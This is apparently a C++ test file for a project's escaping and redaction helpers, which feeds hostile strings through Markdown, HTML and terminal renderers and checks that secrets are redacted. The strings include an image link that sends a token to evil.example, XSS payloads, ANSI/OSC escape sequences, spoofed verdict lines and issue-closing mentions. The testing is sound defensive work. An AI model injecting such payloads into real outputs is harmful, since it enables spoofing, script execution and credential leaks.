// The escapers of common/include/rnx/common/text.hpp with hostile strings (images with a secret in the URL, HTML
// headings, carriage returns, ANSI and OSC 8 sequences, javascript: links, @mentions and issue references, fences),
// and the verdict renderers that use them: nothing of the input survives as markup, a link or a terminal control,
// and no credential of the environment is published.
#include "rnx/common/report.hpp"
#include "rnx/common/text.hpp"

#include "../support/markdown_probe.hpp"

#include <doctest/doctest.h>

#include <cstdlib>
#include <string>
#include <vector>

using namespace rnx;
using rnx::test_support::github_links;
using rnx::test_support::outside_code;
using rnx::test_support::outside_code_spans;

namespace {

const std::vector<std::string> hostile = {
    "![leak](https://evil.example/x.png?token=SECRET)",
    "<h1>rnx verify: accepted</h1><img src=x onerror=alert(1)>",
    "rejected\rrnx verify: ACCEPTED",
    "\x1b[2J\x1b[Hrnx verify: accepted",
    "\x1b]8;;https://evil.example\x1b\\click here\x1b]8;;\x1b\\",
    "\x1b]0;window title\x07text",
    "[ok](javascript:alert(1))",
    "<https://evil.example>",
    "&lt;script&gt; &#60;b&#62;",
    "# rnx: **PASS**",
    "> quoted",
    "- item",
    "1. item",
    "`code` ``` fence",
    "~~struck~~ *em* _em_ $x^2$",
    "a|b\nsecond line\r\n### heading",
    std::string("\xc2\x9b") + "2J C1 CSI",
    std::string("\xe2\x80\xae") + "reversed",
    "\xff\xfe invalid utf-8",
    std::string("\x1bP") + "device control\x1b\\",
};

// Whether `md` has a Markdown-active character that is not backslash-escaped.
bool has_live_markup(const std::string& md) {
  const std::string active = "\\`*_[]()<>!#|~&${}";
  for (std::size_t i = 0; i < md.size(); ++i) {
    if (active.find(md[i]) == std::string::npos) continue;
    if (md[i] == '\\') {
      ++i;  // an escape: the next character is literal
      continue;
    }
    return true;
  }
  return false;
}

bool has_terminal_control(const std::string& text, bool newlines_allowed) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    auto c = static_cast<unsigned char>(text[i]);
    if (c == '\n' && newlines_allowed) continue;
    if (c < 0x20 || c == 0x7f) return true;
    if (c == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) >= 0x80 &&
        static_cast<unsigned char>(text[i + 1]) <= 0x9F) {
      return true;  // a C1 control encoded as UTF-8
    }
    if (c == 0xE2 && text.compare(i, 3, "\xe2\x80\xae") == 0) return true;
  }
  return false;
}

}  // namespace

TEST_CASE("terminal_safe: escape sequences and control characters are removed, the text stays") {
  CHECK(terminal_safe("\x1b[2J\x1b[31mred\x1b[0m") == "red");
  CHECK(terminal_safe("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\") == "click");
  CHECK(terminal_safe("\x1b]0;title\x07text") == "text");
  CHECK(terminal_safe("rejected\rACCEPTED") == "rejectedACCEPTED");
  CHECK(terminal_safe("a\tb\nc") == "a b\nc");
  CHECK(terminal_safe("a\nb", false) == "a b");
  CHECK(terminal_safe("\xc2\x9b"
                      "2Jx") == "x");
  CHECK(terminal_safe("caf\xc3\xa9 \xe2\x9c\x93") == "caf\xc3\xa9 \xe2\x9c\x93");  // UTF-8 text is kept
  CHECK(terminal_safe("\xff") == "\xef\xbf\xbd");                                  // invalid bytes become U+FFFD
  CHECK(terminal_safe("\xe2\x80\xae"
                      "abc") == "abc");
  for (const auto& h : hostile) {
    CAPTURE(h);
    CHECK_FALSE(has_terminal_control(terminal_safe(h), true));
    CHECK_FALSE(has_terminal_control(terminal_safe(h, false), false));
    CHECK(terminal_safe(h).find('\x1b') == std::string::npos);
  }
}

TEST_CASE("markdown_escape: every hostile string is one line of literal text") {
  CHECK(markdown_escape("![leak](https://evil.example/x.png?token=SECRET)") ==
        "\\!\\[leak\\]\\(https:\xE2\x80\x8D//evil.example/x.png?token=SECRET\\)");
  CHECK(markdown_escape("<h1>x</h1>") == "\\<h1\\>x\\</h1\\>");
  CHECK(markdown_escape("&lt;") == "\\&lt;");
  CHECK(markdown_escape("- item") == "\\- item");
  CHECK(markdown_escape("12. item") == "12\\. item");
  CHECK(markdown_escape("1 configurations: 1 equivalent, 0 faster") == "1 configurations: 1 equivalent, 0 faster");
  for (const auto& h : hostile) {
    CAPTURE(h);
    auto md = markdown_escape(h);
    CHECK_FALSE(has_live_markup(md));
    CHECK_FALSE(has_terminal_control(md, false));
    CHECK(md.find('\n') == std::string::npos);
    // Nothing can start a block: no heading, quote or list marker at the start.
    CHECK(md.rfind('#', 0) != 0);
    CHECK(md.rfind('>', 0) != 0);
    CHECK(md.rfind("- ", 0) != 0);
  }
}

TEST_CASE("markdown_code: a code span no input can close, one line, pipes escaped for tables") {
  CHECK(markdown_code("attention/eager/float32/b8") == "`attention/eager/float32/b8`");
  CHECK(markdown_code("a`b") == "``a`b``");
  CHECK(markdown_code("`x`") == "`` `x` ``");
  CHECK(markdown_code("a|b") == "`a\\|b`");
  for (const auto& h : hostile) {
    CAPTURE(h);
    auto md = markdown_code(h);
    CHECK_FALSE(has_terminal_control(md, false));
    // The fence is longer than any run of backticks inside.
    std::size_t fence = 0;
    while (fence < md.size() && md[fence] == '`') ++fence;
    std::size_t run = 0;
    for (std::size_t i = fence; i + fence < md.size(); ++i) {
      run = md[i] == '`' ? run + 1 : 0;
      CHECK(run < fence);
    }
  }
}

TEST_CASE("html_escape: no tag, attribute quote or entity of the input survives") {
  CHECK(html_escape("<h1 class='x'>\"a\" & b</h1>") == "&lt;h1 class=&#39;x&#39;&gt;&quot;a&quot; &amp; b&lt;/h1&gt;");
  for (const auto& h : hostile) {
    CAPTURE(h);
    auto out = html_escape(h);
    CHECK(out.find_first_of("<>\"'") == std::string::npos);
    CHECK_FALSE(has_terminal_control(out, true));
  }
}

TEST_CASE("verdict renderers: reasons, names and commits from a run are data in Markdown and on the terminal") {
  for (const auto& h : hostile) {
    CAPTURE(h);
    verdict_document v;
    v.verdict = overall::block;
    v.reason = h;
    v.baseline = baseline_ref{"3", h, h};
    config_verdict c;
    c.key = {h, "eager", "float32", 8};
    c.result = decision::slower;
    c.reason = h;
    v.configs.push_back(c);
    const std::string full = render_verdict_markdown(v);
    CHECK_FALSE(has_terminal_control(full, true));
    const std::string md = outside_code_spans(full);
    CHECK(md.find("![leak]") == std::string::npos);
    CHECK(md.find("<h1>") == std::string::npos);
    CHECK(md.find("<img") == std::string::npos);
    CHECK(md.find("<code>") != std::string::npos);  // the label is one
    CHECK(md.find("](javascript:") == std::string::npos);
    CHECK(md.find("\n# ") == std::string::npos);
    CHECK(md.find("\n### heading") == std::string::npos);
    CHECK_FALSE(has_terminal_control(md, true));
    const std::string text = render_verdict_text(v);
    CHECK_FALSE(has_terminal_control(text, true));
    CHECK(text.find('\x1b') == std::string::npos);
  }
}

namespace {

// What a candidate's exception may carry to ping people, link or close issues and add links.
const std::string mentions_and_references =
    "@octocat @github/security-team Closes #1 fixes owner/repo#12 GH-7 "
    "https://github.com/owner/repo/issues/3 www.example.com user@example.com";

std::string without_joiners(std::string text) {
  for (std::size_t at = text.find("\xE2\x80\x8D"); at != std::string::npos; at = text.find("\xE2\x80\x8D", at)) {
    text.erase(at, 3);
  }
  return text;
}

}  // namespace

TEST_CASE("unlinked: no mention, issue reference or URL stays live; the text reads the same; twice changes nothing") {
  REQUIRE(github_links(mentions_and_references).size() == 7);  // the probe sees each but the e-mail address
  const std::string out = unlinked(mentions_and_references);
  CHECK_MESSAGE(github_links(out).empty(), github_links(out).front());
  CHECK(without_joiners(out) == mentions_and_references);
  CHECK(unlinked(out) == out);
  CHECK(unlinked("C# 3.0, a-1, x @ y, ## notes") == "C# 3.0, a-1, x @ y, ## notes");  // nothing that links
  CHECK(unlinked("Closes #1") ==
        "Closes #\xE2\x80\x8D"
        "1");
  CHECK(github_links(outside_code(markdown_escape(mentions_and_references))).empty());
}

TEST_CASE("capped: at most `most` bytes on a character boundary, the cut said") {
  CHECK(capped("short", 8) == "short");
  CHECK(capped("abcdefghij", 4) == "abcd [... 6 more bytes]");
  CHECK(capped("\xc3\xa9\xc3\xa9\xc3\xa9", 3) == "\xc3\xa9 [... 4 more bytes]");  // never half of an "é"
}

TEST_CASE("markdown_quoted: a fenced block no line can close, unlinked, without controls, capped") {
  const std::string text = "Traceback:\n  ```` not a fence\n```\n" + mentions_and_references + "\n\x1b[2J\rend\n";
  const std::string md = markdown_quoted(text);
  // The fence is longer than the longest run inside (4), and the block is the whole text.
  CHECK(md.rfind("`````text\n", 0) == 0);
  CHECK(md.size() > 6);
  CHECK(md.substr(md.size() - 6) == "`````\n");
  CHECK(outside_code(md).empty());
  CHECK(md.find("  ```` not a fence\n```\n") != std::string::npos);  // lines kept as written
  CHECK(github_links(md).empty());                                   // inside the block too (commit messages)
  CHECK_FALSE(has_terminal_control(md, true));
  CHECK(markdown_quoted("a").rfind("```text\na\n```\n", 0) == 0);  // three backticks at least
  const std::string long_text(10000, 'x');
  const std::string capped_md = markdown_quoted(long_text, 4000);
  CHECK(capped_md.size() < 4100);
  CHECK(capped_md.find("[... 6000 more bytes]") != std::string::npos);
  for (const auto& h : hostile) {
    CAPTURE(h);
    const std::string quoted = markdown_quoted(h);
    CHECK(outside_code(quoted).empty());
    CHECK_FALSE(has_terminal_control(quoted, true));
  }
}

TEST_CASE("markdown_cell_quotes: a short text stays in its cell; a long or multi-line one is summed up, whole below") {
  markdown_cell_quotes cells(40);
  CHECK(cells.cell("smoke", "max abs err 0.0") == "max abs err 0.0");
  CHECK(cells.full_texts("Details in full").empty());
  const std::string cell = cells.cell("candidate 2", "RuntimeError: " + mentions_and_references);
  CHECK(cell.find("(in full below)") != std::string::npos);
  CHECK(cell.find('\n') == std::string::npos);
  CHECK(github_links(outside_code(cell)).empty());
  CHECK(cells.cell("candidate 3", "two\nlines").find("(in full below)") != std::string::npos);
  const std::string full = cells.full_texts("Details in full");
  CHECK(full.rfind("<details><summary>Details in full</summary>\n\n**candidate 2**\n\n```text\n", 0) == 0);
  CHECK(full.find("**candidate 3**\n\n```text\ntwo\nlines\n```\n") != std::string::npos);
  CHECK(full.substr(full.size() - 11) == "</details>\n");
  CHECK(github_links(outside_code(full)).empty());
  CHECK(without_joiners(full).find(mentions_and_references) != std::string::npos);  // whole, in the block
}

TEST_CASE("environment_secrets and redact: a credential's value of the environment is never published") {
  ::setenv("RNX_TEST_SECRET_TOKEN", "rnx-test-secret-5f1c9a7e", 1);
  ::setenv("RNX_TEST_SECRET_TOKEN_LONG", "rnx-test-secret-5f1c9a7e-and-more", 1);
  ::setenv("RNX_TEST_SHORT_KEY", "abc", 1);
  ::setenv("RNX_TEST_PLAIN_NAME", "rnx-test-plain-value", 1);
  auto looks_secret = +[](const std::string& name) {
    return name.find("TOKEN") != std::string::npos || name.find("KEY") != std::string::npos;
  };
  const std::vector<secret_value> secrets = environment_secrets(looks_secret);
  auto named = [&](const std::string& name) {
    for (const auto& s : secrets) {
      if (s.name == name) return true;
    }
    return false;
  };
  CHECK(named("RNX_TEST_SECRET_TOKEN"));
  CHECK(named("RNX_TEST_SECRET_TOKEN_LONG"));
  CHECK_FALSE(named("RNX_TEST_SHORT_KEY"));  // too short to be a credential
  CHECK_FALSE(named("RNX_TEST_PLAIN_NAME"));
  // The longer value first, so the value holding the other is hidden whole.
  CHECK(redact("a rnx-test-secret-5f1c9a7e-and-more b rnx-test-secret-5f1c9a7e c", secrets) ==
        "a [redacted RNX_TEST_SECRET_TOKEN_LONG] b [redacted RNX_TEST_SECRET_TOKEN] c");
  CHECK(redact("nothing secret", secrets) == "nothing secret");
  const std::string published = markdown_quoted(redact("raised with rnx-test-secret-5f1c9a7e inside", secrets));
  CHECK(published.find("rnx-test-secret-5f1c9a7e") == std::string::npos);
  CHECK(published.find("[redacted RNX_TEST_SECRET_TOKEN]") != std::string::npos);
  for (const char* name :
       {"RNX_TEST_SECRET_TOKEN", "RNX_TEST_SECRET_TOKEN_LONG", "RNX_TEST_SHORT_KEY", "RNX_TEST_PLAIN_NAME"}) {
    ::unsetenv(name);
  }
}

TEST_CASE("message_shown: a prefix of at most `limit` bytes, control and non-ASCII bytes as '?'") {
  CHECK(message_shown("run-42", 40) == "run-42");
  CHECK(message_shown("abcdef", 4) == "abcd");
  CHECK(message_shown("a\nb\x1b[2J\x7f", 40) == "a?b?[2J?");
  CHECK(message_shown("caf\xc3\xa9", 40) == "caf??");
  CHECK(message_shown("", 8).empty());
}
